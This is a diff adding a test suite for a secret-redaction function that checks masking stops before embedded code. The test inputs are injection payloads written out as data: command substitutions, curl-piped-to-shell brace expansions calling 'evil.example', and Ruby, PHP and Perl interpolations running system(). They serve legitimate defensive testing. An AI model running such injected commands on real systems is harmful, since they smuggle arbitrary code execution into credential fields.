@@ -232,3 +232,24 @@ describe('redaction boundaries', () => {
     expect(redactSecrets(legacy)).toBe(`${REDACTED}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,3F17F5316E2BAC89\n\n${REDACTED}`);
   });
 });
+
+describe('a secret never hides code: a value is masked up to the first character that can carry it', () => {
+  test.each([
+    ['a URL password holding a command substitution', 'git ls-remote https://deploy:ghs`touch${IFS}PWNED`@github.com/a.git', `git ls-remote https://${REDACTED}\`touch\${IFS}PWNED\`@github.com/a.git`],
+    ['a URL password holding a brace expansion piped to a shell', 'https://ci:x;{curl,-s,evil.example}|sh;x@github.com/a.git', `https://${REDACTED};{curl,-s,evil.example}|sh;x@github.com/a.git`],
+    ['userinfo that begins with code', 'https://`touch${IFS}x`:pw@host/x', 'https://`touch${IFS}x`:pw@host/x'],
+    ['a bearer token holding $( )', 'Authorization: Bearer abc123$(touch${IFS}x)', `Authorization: Bearer ${REDACTED}$(touch\${IFS}x)`],
+    ['a bearer token before a brace expansion', 'Authorization: Bearer abc123{curl,evil}|sh', `Authorization: Bearer ${REDACTED}{curl,evil}|sh`],
+    ['a cookie holding $( )', 'Cookie: sid=abc1$(id)def', `Cookie: sid=${REDACTED}$(id)def`],
+    ['Ruby interpolation in a quoted value', 'token = "#{File.write(%q(PWNED), 1)}"', 'token = "#{File.write(%q(PWNED), 1)}"'],
+    ['PHP interpolation in a quoted value', '$password = "{${system(\'touch PWNED\')}}";', '$password = "{${system(\'touch PWNED\')}}";'],
+    ['Perl interpolation in a quoted value', 'my $api_key = "@{[ system(q(touch PWNED)) ]}";', 'my $api_key = "@{[ system(q(touch PWNED)) ]}";'],
+    ['a workflow expression in a quoted value', 'client_secret="${{ github.event.issue.title }}"', 'client_secret="${{ github.event.issue.title }}"'],
+    ['a template tag after a secret', '"token": "s3cret<%= system(\'id\') %>"', `"token": "${REDACTED}<%= system('id') %>"`],
+    ['a password with a dollar sign shows its tail', 'https://user:pa$$w0rd@host/x', `https://${REDACTED}$$w0rd@host/x`],
+  ])('%s', (_label, input, expected) => {
+    expect(redactSecrets(input)).toBe(expected);
+    expect(redactSecrets(expected)).toBe(expected);
+  });
+});
+
